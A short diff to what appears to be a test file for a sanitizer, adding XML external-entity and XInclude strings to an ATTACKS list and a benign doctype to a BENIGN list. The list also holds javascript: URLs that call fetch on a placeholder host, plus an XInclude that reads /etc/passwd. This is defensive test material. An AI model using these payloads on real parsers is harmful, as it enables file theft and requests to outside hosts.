@@ -26,6 +26,8 @@ ATTACKS = [
     ("javascript:void(fetch('//x.test'))", "script URL"),
     ("JaVaScRiPt:x", "script URL"),
     ("data:text/html;base64,PHNjcmlwdD4=", "script URL"),
+    ('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://x.test/e">%x;]>', "external entity or XInclude"),
+    ('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', "external entity or XInclude"),
 ]
 
 BENIGN = [
@@ -44,6 +46,7 @@ BENIGN = [
     "The 'onclick' handler is documented",
     '<input type="text" name="q">',
     "x = y + 1; // comment",
+    "<!DOCTYPE html>",
 ]
 
 
